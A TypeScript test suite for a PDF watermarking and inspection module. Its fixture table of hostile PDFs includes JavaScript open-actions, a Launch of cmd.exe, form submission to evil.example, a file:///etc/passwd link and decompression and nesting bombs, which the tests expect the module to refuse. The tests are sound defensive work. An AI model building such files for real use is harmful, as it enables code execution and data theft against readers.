import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { degrees, PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';
import { DomainError } from '#/core/errors.ts';
import { packedStream, testPdf, textOfPages, wordsPdf, writtenPdf } from '#test/kit/pdf.ts';
import { documents } from './documents.ts';
import { LIMITS } from './limits.ts';

const papers = documents();
after(() => papers.close());

const MARK = {
  lines: ['Zoë Buyer <zoe@buyer.example>', 'Buyer & Sons', '3 Mar 2026'],
  foot: 'Copy for 李 zoe@buyer.example, grant 0000-1',
};

const refusal = async (bytes: Uint8Array): Promise<string> =>
  papers.inspect('a.pdf', bytes).then(
    ({ pages }) => `taken, ${pages} pages`,
    (error: unknown) => {
      assert.ok(error instanceof DomainError, String(error));
      assert.equal(error.code, 'document_refused');
      assert.ok(error.fix.length > 20, 'it says what to do');
      return error.message;
    },
  );

test('every page of a copy says whose it is, to another reader, whatever its size, turn or place', async () => {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  for (const turn of [0, 90, 180, 270])
    for (const size of [[595, 842] as const, [1_000, 400] as const]) {
      const page = document.addPage([...size]);
      page.setRotation(degrees(turn));
      page.setCropBox(20, 30, size[0] - 50, size[1] - 60);
      page.drawText('the original', { x: 60, y: 200, size: 12, font });
    }
  document.addPage(); // an empty one
  const original = await document.save();
  assert.deepEqual(await papers.inspect('a.pdf', original), { pages: 9, signed: false });
  const copy = await papers.mark(original, MARK);
  const texts = await textOfPages(copy);
  assert.equal(texts.length, 9);
  for (const [at, text] of texts.entries()) {
    assert.match(text, /Zoë Buyer <zoe@buyer.example>/, `page ${at + 1}`);
    assert.match(text, /Buyer & Sons/);
    assert.match(text, /Copy for Li zoe@buyer\.example, grant 0000-1/, 'what the fonts have no letters for is spelled');
    assert.equal(text.includes('the original'), at < 8);
  }
});

test('whatever script a name is written in, the mark spells it in letters that everybody can read and search for', async () => {
  const spelled = [
    ['Łukasz Żółć', 'Lukasz Zólc'],
    ['Анна Кузнецова', 'Anna Kuznetsova'],
    ['Κώστας', 'Kostas'],
    ['李小龙', 'LiXiaoLong'],
    ['さくら', 'sakura'],
    ['김민수', 'GimMinSu'],
    ['محمد', 'mhmd'],
    ['Zoë Müller', 'Zoë Müller'],
  ] as const;
  for (const [name, says] of spelled) {
    const mark = { lines: [name], foot: `Copy for ${name}.` };
    const [text = ''] = await textOfPages(await papers.mark(await testPdf(1), mark));
    assert.ok(text.includes(`Copy for ${says}.`), `${name}: ${text}`);
    assert.ok(text.includes(says) && !text.includes('?'), text);
  }
});

test('a copy is written anew: nothing of the file before lies in it, and the same asked twice is the same', async () => {
  const original = await testPdf(3);
  const copy = Buffer.from(await papers.mark(original, MARK));
  assert.equal(copy.subarray(9).includes(Buffer.from(original.subarray(9))), false);
  assert.equal(copy.toString('latin1').split('%%EOF').length, 2, 'there is one end, and no earlier version');
  assert.deepEqual(Buffer.from(await papers.mark(original, MARK)), copy);
  const other = Buffer.from(await papers.mark(original, { ...MARK, foot: 'Copy for another' }));
  assert.notDeepEqual(other, copy);
});

test('documents that share their resources, or inherit them, are marked on each page once', async () => {
  const resources = '/Resources << /Font << /F 5 0 R >> >>';
  const bytes = writtenPdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
    `<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 /MediaBox [0 0 300 300] ${resources} >>`,
    '<< /Type /Page /Parent 2 0 R /Contents 6 0 R >>',
    '<< /Type /Page /Parent 2 0 R /Contents [6 0 R] >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    '<< /Length 40 >>\nstream\nBT /F 12 Tf 20 20 Td (shared) Tj ET     \nendstream',
  ]);
  assert.equal(await refusal(bytes), 'taken, 2 pages');
  const texts = await textOfPages(await papers.mark(bytes, MARK));
  for (const text of texts) assert.equal(text.split('Copy for').length, 2, text);
});

test('a signature of the original does not stand in a copy as a broken one', async () => {
  const signed = writtenPdf([
    '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] /SigFlags 3 >> /Perms << /DocMDP 5 0 R >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Annots [4 0 R] >>',
    '<< /Type /Annot /Subtype /Widget /FT /Sig /T (s) /V 5 0 R /Rect [0 0 0 0] >>',
    '<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <00> >>',
  ]);
  assert.deepEqual(await papers.inspect('a.pdf', signed), { pages: 1, signed: true });
  const copy = await PDFDocument.load(await papers.mark(signed, MARK));
  assert.equal(copy.catalog.has(PDFName.of('Perms')), false);
});

const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (more = ''): string => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] ${more} >>`;
const withCatalog = (more: string, ...others: (string | Buffer)[]): Buffer =>
  writtenPdf([`<< /Type /Catalog /Pages 2 0 R ${more} >>`, pages, page(), ...others]);
const withPage = (more: string, ...others: (string | Buffer)[]): Buffer =>
  writtenPdf(['<< /Type /Catalog /Pages 2 0 R >>', pages, page(more), ...others]);
const link = (action: string): Buffer =>
  withPage(`/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`);

const HOSTILE: Readonly<Record<string, readonly [Buffer | (() => Promise<Uint8Array>), RegExp]>> = {
  'no PDF': [Buffer.from('hello'), /it is no PDF/],
  'nothing at all': [Buffer.alloc(0), /it is no PDF/],
  'a web page': [Buffer.from('<html>%PDF'), /it is no PDF/],
  'a script that runs when it is opened': [
    withCatalog('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
    /script/,
  ],
  'a script under a name in disguise': [
    withCatalog('/OpenAction << /S /J#61vaScript /J#53 (1) >>'),
    /script|JavaScript/,
  ],
  'a script among names': [
    withCatalog('/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>'),
    /script/,
  ],
  'a script that nothing leads to': [withCatalog('', '<< /S /JavaScript /JS 5 0 R >>', '(1)'), /script|JavaScript/],
  'a script in a packed table of objects': [
    withCatalog('', packedStream('/Type /ObjStm /N 1 /First 5', Buffer.from('9 0  << /S /JavaScript /JS (1) >>'))),
    /script|JavaScript/,
  ],
  'a program to launch': [link('<< /S /Launch /F (cmd.exe) >>'), /Launch/],
  'another file to open': [link('<< /S /GoToR /F (x.pdf) >>'), /GoToR/],
  'a form that is sent': [link('<< /S /SubmitForm /F (https://evil.example) >>'), /SubmitForm/],
  'an action nobody knows': [link('<< /S /Whatever >>'), /Whatever/],
  'a link with a script': [link('<< /S /URI /URI (javascript:alert\\(1\\)) >>'), /link/],
  'a link to a file': [link('<< /S /URI /URI (file:///etc/passwd) >>'), /link/],
  'a film': [withPage('/Annots [<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] >>]'), /film/],
  'an attached file': [
    withPage(
      '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 4 0 R >>]',
      '<< /Type /Filespec /F (a) >>',
    ),
    /attached|file/,
  ],
  'an embedded file': [
    withCatalog(
      '/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 4 0 R >> >>] >> >>',
      '<< /Length 1 >>\nstream\na\nendstream',
    ),
    /embedded/,
  ],
  'a form that is XFA': [
    withCatalog('/AcroForm << /Fields [] /XFA 4 0 R >>', '<< /Length 1 >>\nstream\na\nendstream'),
    /XFA/,
  ],
  'a page that acts when it is shown': [withPage('/AA << /O << /S /Named /N /Print >> >>'), /by itself/],
  'a script in a version before the last': [
    Buffer.concat([
      link('<< /S /JavaScript /X (1) >>').subarray(0, -6),
      Buffer.from('\n'),
      withCatalog('').subarray(9),
    ]),
    /script/,
  ],
  encryption: [
    writtenPdf(
      ['<< /Type /Catalog /Pages 2 0 R >>', pages, page(), '<< /Filter /Standard /V 1 /R 2 /O (a) /U (b) /P -1 >>'],
      '/Encrypt 4 0 R /ID [<00> <00>]',
    ),
    /encrypted/,
  ],
  'encryption with an empty password': [encrypted, /encrypted/],
  'no end': [async () => (await testPdf(2)).subarray(0, -40), /damaged/],
  'half of it': [
    async () => Buffer.concat([(await testPdf(40)).subarray(0, 1_500), Buffer.from('\n%%EOF')]),
    /damaged/,
  ],
  'no pages': [writtenPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']), /damaged/],
  'no catalog': [writtenPdf(['<< /Type /Nothing >>']), /damaged/],
  'pages in a circle': [
    writtenPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
    /damaged/,
  ],
  'the same page a thousand times a thousand': [
    writtenPdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [${'3 0 R '.repeat(1_000)}] >>`,
      `<< /Type /Pages /Kids [${'4 0 R '.repeat(1_000)}] >>`,
      page(),
    ]),
    /damaged/,
  ],
  'more pages than anybody reads': [
    writtenPdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [${Array.from({ length: 2_100 }, (_, at) => `${at + 3} 0 R`).join(' ')}] >>`,
      ...Array.from({ length: 2_100 }, () => page()),
    ]),
    /pages/,
  ],
  'a page without size': [
    writtenPdf(['<< /Type /Catalog /Pages 2 0 R >>', pages, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 0 0] >>']),
    /no size/,
  ],
  'a page that is gone': [
    writtenPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [9 0 R] /Count 1 >>']),
    /damaged/,
  ],
  'drawing that is gone': [withPage('/Contents 9 0 R'), /taken|missing/],
  'a table that unpacks to a quarter of a gigabyte': [
    withCatalog('', packedStream('/Type /ObjStm /N 1 /First 5', Buffer.alloc(2 ** 28))),
    /unpack/,
  ],
  'the same under a name in disguise': [
    withCatalog('', packedStream('/Type /Obj#53tm /N 1 /First 5', Buffer.alloc(2 ** 28))),
    /unpack/,
  ],
  'arrays a hundred thousand deep': [withCatalog('', '['.repeat(100_000)), /damaged/],
  'an array three hundred deep': [withCatalog('', '['.repeat(300) + ']'.repeat(300)), /nested|damaged/],
  'numbers without end': [withCatalog('', '9'.repeat(2_000_000)), /damaged|taken/],
};

/** As a printer driver would protect it: nobody is asked for a word to open it. */
async function encrypted(): Promise<Uint8Array> {
  const document = await PDFDocument.load(await testPdf(1));
  document.encrypt({ userPassword: '', ownerPassword: 'owner' });
  return document.save({ useObjectStreams: false });
}

for (const [what, [bytes, says]] of Object.entries(HOSTILE))
  test(`a file with ${what} is answered in time, and in words`, async () => {
    const began = Date.now();
    assert.match(await refusal(typeof bytes === 'function' ? await bytes() : bytes), says);
    assert.ok(Date.now() - began < 29_000);
    assert.equal(await refusal(await testPdf(1)), 'taken, 1 pages', 'the next one is not harmed');
  });

test('one byte more than the limit is too much', async () => {
  assert.match(await refusal(Buffer.alloc(32 * 2 ** 20 + 1, '%PDF-')), /more than 32 MB/);
});

test('what cannot be marked comes out as nothing', async () => {
  await assert.rejects(papers.mark(Buffer.from('%PDF-1.7 nothing'), MARK), { code: 'document_unmarked' });
  await assert.rejects(papers.mark(await encrypted(), MARK), { code: 'document_unmarked' });
});

test('links, notes and a first view stay', async () => {
  const document = await PDFDocument.load(await testPdf(2));
  const [first] = document.getPages();
  const { context } = document;
  const action = context.obj({ S: 'URI', URI: PDFString.of('https://acme.example') });
  first?.node.addAnnot(
    context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 9, 9], A: action })),
  );
  document.catalog.set(PDFName.of('OpenAction'), context.obj({ S: 'GoTo', D: [first?.ref ?? 0, 'Fit'] }));
  assert.equal(await refusal(await document.save()), 'taken, 2 pages');
});

test('an agreement is a file in which everything stands that was agreed', async () => {
  const bytes = await papers.write({
    title: 'Agreement',
    text: '# Terms\n\nBoth sides **agree**.\n\n- one\n- two\n\n1. first\n2. second',
    facts: [
      ['Signed by', '李明'],
      ['For', 'Buyer'],
    ],
    at: Date.UTC(2026, 2, 3),
  });
  const text = (await textOfPages(bytes)).join(' ');
  for (const word of ['Agreement', 'Terms', 'Both sides agree.', '• one', '1. first', 'U+674E U+660E', 'Buyer'])
    assert.ok(text.includes(word), `${word} is not in: ${text}`);
});

test('what stands on its pages is read as text, page by page and line by line; what cannot be read is null', async () => {
  const { texts = [], pages } = (await papers.read(await wordsPdf(['One line\nand another', '', 'the end']))) ?? {};
  assert.deepEqual([texts.map((text) => text.trim()), pages], [['One line\nand another', '', 'the end'], 3]);
  const long = await papers.read(await testPdf(LIMITS.readPages + 2));
  assert.deepEqual([long?.texts.length, long?.pages], [LIMITS.readPages, LIMITS.readPages + 2]);
  assert.equal(await papers.read(Buffer.from('no PDF')), null);
  assert.equal((await papers.read(await testPdf(1)))?.pages, 1, 'and the next one is read again');
});
